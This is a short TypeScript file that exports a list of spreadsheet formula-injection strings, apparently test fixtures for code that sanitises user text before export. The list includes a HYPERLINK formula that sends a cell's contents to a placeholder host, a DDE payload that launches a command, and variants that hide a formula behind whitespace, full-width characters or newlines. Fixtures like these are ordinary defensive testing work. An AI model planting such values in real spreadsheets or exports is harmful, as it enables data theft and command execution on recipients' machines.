/** What a customer, a shop or a colleague may write so that a spreadsheet runs it. */
export const hostileTexts: readonly string[] = [
  '=1+1',
  '=HYPERLINK("http://evil/?"&A1,"点我")',
  "+cmd|' /C calc'!A0",
  '@SUM(1)',
  '-2+3',
  '\t=1+1',
  '\u00a0=1+1',
  ' =1+1',
  '\u3000=1+1',
  '\r=1+1',
  '好评\n=cmd|x',
  '＝1+1',
  '|cmd',
  '%x',
];
